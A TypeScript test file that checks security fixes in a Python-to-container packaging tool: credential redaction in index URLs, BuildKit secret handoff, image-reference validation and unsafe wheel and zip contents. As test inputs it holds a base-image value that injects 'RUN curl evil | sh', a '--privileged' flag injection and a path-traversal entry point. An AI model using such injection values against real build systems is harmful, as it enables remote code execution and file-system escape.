/**
 * Issue 19's security items: credentials masked and hidden in any URL form, off pip's command
 * line and out of the image; entry-point names that climb out of bin/; big zip members' CRC;
 * image references that could be flags or Dockerfile instructions.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import { afterAll, describe, expect, it, vi } from 'vitest';
import { maskCredentials } from '../../src/action/main.js';
import { indexHandoff } from '../../src/assemble/dockerfile.js';
import { extractZip } from '../../src/assemble/unzip.js';
import { layoutWheels } from '../../src/assemble/wheel-install.js';
import { parseInputs } from '../../src/inputs/inputs.js';
import { indexUrlsToEnv } from '../../src/install/pip.js';
import { resolveWheels } from '../../src/install/wheelhouse.js';
import { hasCredentials, redactUrl, urlSecrets } from '../../src/shared/redact.js';
import { craftZip } from '../fixtures/doctor/craft.js';

const dirs: string[] = [];
const tmp = () => {
  const d = fs.mkdtempSync(path.join(os.tmpdir(), 'fcpp-sec-'));
  dirs.push(d);
  return d;
};
afterAll(() => dirs.forEach((d) => fs.rmSync(d, { recursive: true, force: true })));

describe('credentials in URLs', () => {
  it('redacts a token-only userinfo as well as user:password', () => {
    expect(redactUrl('Looking at https://ghp_T0ken@pkgs.example.com/simple and https://u:S3cretPw@h/simple')).toBe(
      'Looking at https://***@pkgs.example.com/simple and https://u:***@h/simple',
    );
    expect(redactUrl('file:///tmp/index/simple')).toBe('file:///tmp/index/simple');
  });

  it('masks the password, the whole token, and their decoded forms', () => {
    expect(urlSecrets('https://ghp_T0ken@pkgs.example.com/simple')).toEqual(['ghp_T0ken']);
    expect(urlSecrets('https://user:p%40ss@h/simple')).toEqual(['p%40ss', 'p@ss']);
    expect(urlSecrets('https://h/simple')).toEqual([]);
    expect(hasCredentials('https://tok@h/')).toBe(true);
    expect(hasCredentials('https://h/a@b')).toBe(false);
  });

  it("maskCredentials registers each secret with the runner (::add-mask::)", () => {
    const written: string[] = [];
    const spy = vi.spyOn(process.stdout, 'write').mockImplementation((s: string | Uint8Array) => (written.push(String(s)), true));
    try {
      maskCredentials('https://user:S3cretPw@h/simple');
      maskCredentials('https://ghp_T0ken@h/simple');
      maskCredentials('https://h/simple');
    } finally {
      spy.mockRestore();
    }
    expect(written.join('')).toBe(`::add-mask::S3cretPw${os.EOL}::add-mask::ghp_T0ken${os.EOL}`);
  });

  it("moves index flags into pip's environment, in every spelling", () => {
    expect(indexUrlsToEnv(['--no-input', '--index-url', 'https://t@h/s', '--extra-index-url', 'https://a', '--extra-index-url=https://b', '-r', 'x'])).toEqual({
      args: ['--no-input', '-r', 'x'],
      env: { PIP_INDEX_URL: 'https://t@h/s', PIP_EXTRA_INDEX_URL: 'https://a https://b' },
    });
  });

  it("never puts them on pip's command line (readable in /proc/*/cmdline)", async () => {
    const dir = tmp();
    const fake = path.join(dir, 'python');
    fs.writeFileSync(fake, `#!/bin/sh\nprintf '%s\\n' "$@" >> ${dir}/argv\nprintf '%s\\n' "$PIP_INDEX_URL" >> ${dir}/env\nexit 1\n`, { mode: 0o755 });
    await expect(
      resolveWheels(path.join(dir, 'wheels'), ['--index-url', 'https://user:S3cretPw@127.0.0.1:9/simple', 'fastapi'], { python: fake, scratch: path.join(dir, 's'), env: {} }),
    ).rejects.toThrow(/could not download/);
    expect(fs.readFileSync(path.join(dir, 'argv'), 'utf8')).not.toContain('S3cretPw');
    expect(fs.readFileSync(path.join(dir, 'env'), 'utf8')).toContain('https://user:S3cretPw@127.0.0.1:9/simple');
  });
});

describe('the index handed to a given Dockerfile', () => {
  const has = hasCredentials;
  it('refuses credentials as a build argument (docker history keeps them)', () => {
    expect(() => indexHandoff('FROM x\nARG PIP_INDEX_URL\nRUN pip install a\n', { url: 'https://u:S3cretPw@h/simple', extra: [] }, has)).toThrow(/id=pip\.conf/);
    expect(() => indexHandoff('FROM x\nARG PIP_EXTRA_INDEX_URL\n', { extra: ['https://tok@h/simple'] }, has)).toThrow(/index-url carries credentials/);
  });

  it('hands them over as a BuildKit secret, and plain URLs as build arguments', () => {
    const viaSecret = indexHandoff('FROM x\nRUN --mount=type=secret,id=pip.conf,target=/etc/pip.conf pip install a\n', { url: 'https://u:S3cretPw@h/simple', extra: ['https://e/simple'] }, has);
    expect(viaSecret).toEqual({ buildArgs: [], buildkit: true, secret: '[global]\nindex-url = https://u:S3cretPw@h/simple\nextra-index-url = https://e/simple\n' });
    expect(indexHandoff('FROM x\nARG PIP_INDEX_URL\n', { url: 'file:///tmp/index/simple', extra: [] }, has)).toEqual({ buildArgs: [['PIP_INDEX_URL', 'file:///tmp/index/simple']], buildkit: false, secret: undefined });
  });
});

describe('image references', () => {
  const parse = (extra: Record<string, string>) => parseInputs((n) => ({ target: 'image', ...extra })[n], { cwd: os.tmpdir(), env: {} });
  it('refuses a verify-image that docker would read as a flag', () => {
    expect(() => parse({ 'verify-image': '--privileged' })).toThrow(/Input verify-image: "--privileged" is not a valid image reference/);
  });
  it('refuses a base-image that would add Dockerfile instructions', () => {
    expect(() => parse({ 'base-image': 'python:3.11\nRUN curl evil | sh' })).toThrow(/Input base-image: [\s\S]* is not a valid image reference/);
  });
  it('accepts tags, registries with ports and digests', () => {
    expect(parse({ 'verify-image': 'registry.local:5000/py/python:3.11-slim', 'base-image': `python@sha256:${'a'.repeat(64)}` }).baseImage).toBe(`python@sha256:${'a'.repeat(64)}`);
  });
});

describe('untrusted wheels and zips', () => {
  it("refuses an entry-point name with '..' where entry_points.txt is read", async () => {
    const dir = tmp();
    const info = 'evil-1.0.dist-info';
    const whl = craftZip(path.join(dir, 'evil-1.0-py3-none-any.whl'), [
      { name: 'evil/__init__.py', data: '' },
      { name: `${info}/METADATA`, data: 'Metadata-Version: 2.1\nName: evil\nVersion: 1.0\n' },
      { name: `${info}/WHEEL`, data: 'Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n' },
      { name: `${info}/entry_points.txt`, data: '[console_scripts]\n../../../../tmp/x = evil:main\n' },
      { name: `${info}/RECORD`, data: '' },
    ]);
    await expect(layoutWheels([{ file: whl }], { prefix: 'python/' } as never)).rejects.toThrow(/entry point "\.\.\/\.\.\/\.\.\/\.\.\/tmp\/x" .* is not a file name/);
  });

  it('checks the CRC of a member over 1 MiB on unpack', async () => {
    const dir = tmp();
    const data = Buffer.alloc(3 * 1024 * 1024, 'abcdefgh');
    const zip = craftZip(path.join(dir, 'big.zip'), [{ name: 'big.bin', data, stored: true }]);
    // Flip one byte of the stored data: the sizes still match, only the CRC tells.
    const bytes = fs.readFileSync(zip);
    const at = bytes.indexOf(Buffer.from('abcdefgh')) + 1024 * 1024;
    bytes[at] = bytes[at]! ^ 0xff;
    fs.writeFileSync(zip, bytes);
    expect(zlib.crc32(data)).not.toBe(0);
    await expect(extractZip(zip, path.join(dir, 'out'))).rejects.toThrow(/big\.bin fails its CRC/);
  });
});
